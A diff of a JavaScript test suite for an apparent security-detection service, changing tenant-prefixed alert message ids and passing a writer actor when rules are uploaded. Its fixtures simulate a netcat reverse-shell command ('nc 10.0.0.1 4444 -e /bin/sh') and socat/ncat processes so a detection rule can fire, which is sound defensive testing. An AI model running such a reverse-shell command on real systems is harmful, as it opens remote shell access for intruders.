@@ -79,7 +79,8 @@ test('worker stage: stores and publishes each alert; a replayed batch adds nothi
   assert.equal(stage.required, true);
   const shells = processStarts('/usr/bin/nc', ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'], 2);
   const batch = [...processStarts('/usr/bin/ls', ['ls', '-l'], 3), ...shells];
-  const expected = shells.map((e) => alertIdOf(NETCAT_RULE, e)).sort();
+  const ids = shells.map((e) => alertIdOf(NETCAT_RULE, e)).sort();
+  const expected = ids.map((id) => `acme/${id}`); // message ids name the tenant: alert ids are unique per tenant only
 
   await stage.process(batch);
   assert.deepEqual(bus.published.map((m) => m.id).sort(), expected);
@@ -88,7 +89,7 @@ test('worker stage: stores and publishes each alert; a replayed batch adds nothi
   await stage.process(batch); // redelivered after a crash between the store write and the ack
   assert.deepEqual(bus.published.map((m) => m.id).sort(), [...expected, ...expected].sort(), 'same message ids again');
   const stored = (await store.list({ tenantId: 'acme', ruleId: NETCAT_RULE, limit: 10 })).alerts.map((a) => a.id).sort();
-  assert.deepEqual(stored, expected, 'one row per alert');
+  assert.deepEqual(stored, ids, 'one row per alert');
 });
 
 test('worker stage: a failed publish fails the stage, so the batch is redelivered', async () => {
@@ -130,6 +131,8 @@ detection:
   condition: sel
 `;
 
+const WRITER = { tenantId: 'default', actor: 'user:test', mayRespond: false };
+
 test('shared rules: an upload through one process runs in the other; a switch stops it; a lost notice is caught up', async () => {
   const db = await createTempDatabase('rules');
   const bus = broadcast();
@@ -140,7 +143,7 @@ test('shared rules: an upload through one process runs in the other; a switch st
   try {
     const socat = () => processStarts('/usr/bin/socat', ['socat', 'x'], 1);
     assert.ok(api.rules.list().some((r) => r.id === NETCAT_RULE), 'directory rules as before');
-    const added = await api.rules.add(customRule());
+    const added = await api.rules.add(customRule(), WRITER);
     assert.deepEqual(added, { ok: true, ids: [CUSTOM] });
     await bus.settled();
     assert.equal(worker.rules.get(CUSTOM)?.info.origin, 'uploaded', 'the worker runs the upload');
@@ -163,7 +166,7 @@ test('shared rules: an upload through one process runs in the other; a switch st
     try {
       assert.equal(api2.rules.get(CUSTOM)?.info.enabled, true);
       const other = '7d1f3c2a-2222-4c4c-8a8a-00000000c0de';
-      const [a, b] = await Promise.all([api.rules.add(customRule(other, '/usr/bin/ncat2')), api2.rules.delete(CUSTOM)]);
+      const [a, b] = await Promise.all([api.rules.add(customRule(other, '/usr/bin/ncat2'), WRITER), api2.rules.delete(CUSTOM)]);
       assert.ok(a.ok && b.ok);
       await bus.settled();
       for (const p of [api, api2, worker]) {
